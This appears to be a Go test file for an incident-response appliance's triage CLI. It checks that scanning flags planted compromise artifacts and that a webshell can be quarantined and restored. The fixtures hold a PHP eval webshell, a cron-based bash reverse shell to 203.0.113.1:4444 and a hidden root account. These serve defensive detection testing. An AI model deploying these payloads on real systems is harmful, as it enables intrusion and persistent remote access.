package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/firebreak-ir/firebreak/appliance/internal/cases"
)

// TestTriageCLI drives collect, scan, plan and show through the daemon.
// Scanning needs the first-party modules embedded by `make build`; a
// binary built without them says so, and the test checks that answer.
func TestTriageCLI(t *testing.T) {
	dir := t.TempDir()
	d := startDaemon(t, dir)
	defer d.Close()
	id := mustFB(t, dir, "case", "new", "--title", "Web server defaced", "--as", "alice")

	root := filepath.Join(t.TempDir(), "web01")
	for p, body := range map[string]string{
		"etc/passwd":           "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
		"var/www/html/x.php":   "<?php @eval($_POST['pass']); ?>\n",
		"var/www/html/ok.html": "<html>hello</html>\n",
		"etc/cron.d/sysupdate": "* * * * * root bash -i >& /dev/tcp/203.0.113.1/4444 0>&1\n",
		"home/alice/notes.txt": "not in the triage set\n",
	} {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(root, p)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(root, p), []byte(body), 0o644))
	}
	out := mustFB(t, dir, "triage", "collect", "--case", id, "--target", root)
	assert.Contains(t, out, "collected 4 files from "+root+" (directory) into the vault: 4 new exhibits")

	code, out, errs := fb(t, dir, "triage", "scan", "--case", id, "--target", root)
	if strings.Contains(errs, "built without the first-party modules") {
		assert.Equal(t, ExitFail, code)
		t.Logf("this binary embeds no modules: %s", strings.TrimSpace(errs))
	} else {
		require.Equal(t, ExitOK, code, errs)
		assert.Contains(t, out, "webshell")
		assert.Contains(t, out, "/var/www/html/x.php")
		assert.Contains(t, out, "second UID 0 account toor")
		out = mustFB(t, dir, "triage", "plan", "--case", id, "--target", root, "--json")
		var plan cases.TriagePlan
		require.NoError(t, json.Unmarshal([]byte(out), &plan))
		var step string
		for _, s := range plan.Steps {
			assert.Empty(t, s.Refused)
			if s.Type == "quarantine_file" && s.Target == "/var/www/html/x.php" {
				step = s.ID
			}
		}
		require.NotEmpty(t, step, "a step quarantines the webshell: %s", out)
		out = mustFB(t, dir, "triage", "apply", "--case", id, "--step", step, "--as", "bob")
		assert.Contains(t, out, "applied "+step+": quarantine_file /var/www/html/x.php")
		_, err := os.Stat(filepath.Join(root, "var/www/html/x.php"))
		assert.True(t, os.IsNotExist(err), "quarantined")
		out = mustFB(t, dir, "triage", "undo", "--case", id, "--step", step)
		assert.Contains(t, out, "undone "+step)
		b, err := os.ReadFile(filepath.Join(root, "var/www/html/x.php"))
		require.NoError(t, err)
		assert.Equal(t, "<?php @eval($_POST['pass']); ?>\n", string(b))
		out = mustFB(t, dir, "triage", "show", "--case", id)
		assert.Contains(t, out, step+"  undone")
	}
	out = mustFB(t, dir, "triage", "show", "--case", id)
	assert.Contains(t, out, "from "+root+" (directory)")

	// Usage errors and refusals are one clear line.
	code, _, errs = fb(t, dir, "triage", "collect", "--target", root)
	assert.Equal(t, ExitUsage, code)
	assert.Contains(t, errs, "--case is required")
	code, _, errs = fb(t, dir, "triage", "collect", "--case", id, "--target", "/")
	assert.Equal(t, ExitFail, code)
	assert.Contains(t, errs, "the appliance's own root")
	code, _, errs = fb(t, dir, "triage", "apply", "--case", id, "--step", "S999.1")
	assert.Equal(t, ExitFail, code)
	assert.Contains(t, errs, "not found")
}
